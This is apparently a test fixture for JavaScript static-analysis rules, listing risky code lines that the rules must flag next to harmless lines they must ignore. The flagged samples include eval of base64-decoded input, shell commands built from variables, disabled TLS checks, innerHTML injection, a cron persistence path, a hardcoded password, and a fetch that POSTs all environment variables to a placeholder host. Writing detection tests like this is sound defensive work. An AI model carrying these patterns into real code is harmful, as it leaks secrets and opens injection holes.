// The rules beside this file: each line after `ruleid` must be found, and nothing else in this file may be.
// ruleid: javascript.eval
eval(text);
eval("1 + 1");
// ruleid: javascript.eval
new Function("a", text);
// ruleid: javascript.decoded_code, javascript.decoded_flow, javascript.eval
eval(atob(text));
// ruleid: javascript.shell
child.execSync(`ls ${name}`);
child.execFile("ls", [name]);
// ruleid: javascript.tls_unverified
https.request({ host: "a.example", rejectUnauthorized: false });
https.request({ host: "a.example" });
// ruleid: javascript.tls_unverified
process.env["NODE_TLS_REJECT_UNAUTHORIZED"] = "0";
process.env["NODE_ENV"] = "test";
// ruleid: javascript.unescaped
element.innerHTML = text;
element.textContent = text;
// ruleid: javascript.environment_leaves, javascript.sends_environment
fetch("https://a.example", { method: "POST", body: JSON.stringify(process.env) });
fetch("https://a.example", { method: "POST", body: process.env.USER });

function flows(text, name) {
  const code = Buffer.from(text, "base64").toString();
  // ruleid: javascript.decoded_flow, javascript.eval
  new Function(code);
  // ruleid: javascript.built_name
  require("child" + "_process");
  require("child_process");
  // ruleid: javascript.built_name
  const make = (() => {})["constructor"];
  const kind = box["kind"];
  const all = JSON.stringify(process.env);
  // ruleid: javascript.environment_leaves
  fetch("https://a.example", { body: all });
  fetch("https://a.example", { body: "all" });
  // ruleid: javascript.runs
  cp.spawn(name);
  // ruleid: javascript.exec
  child_process.exec(name);
  pattern.exec(name);
  // ruleid: javascript.persists
  const place = "/etc/cron.d/app";
  const other = "/etc/app.toml";
  // ruleid: javascript.watched
  if (process.env.GITHUB_ACTIONS) return 1;
  if (process.env.NODE_ENV) return 1;
  // ruleid: javascript.fixed_credential
  if (password === "open") return 1;
  if (password === name.again) return 1;
  // ruleid: javascript.secret_logged
  console.log("login", password);
  console.log("login", name);
  // ruleid: javascript.replaced
  globalThis.fetch = name;
  globalThis.fetch(name);
}

async function preview(req, res) {
  // ruleid: javascript.request_decides
  const page = await axios.get(req.query.url);
  const own = await axios.get("https://a.example/");
}
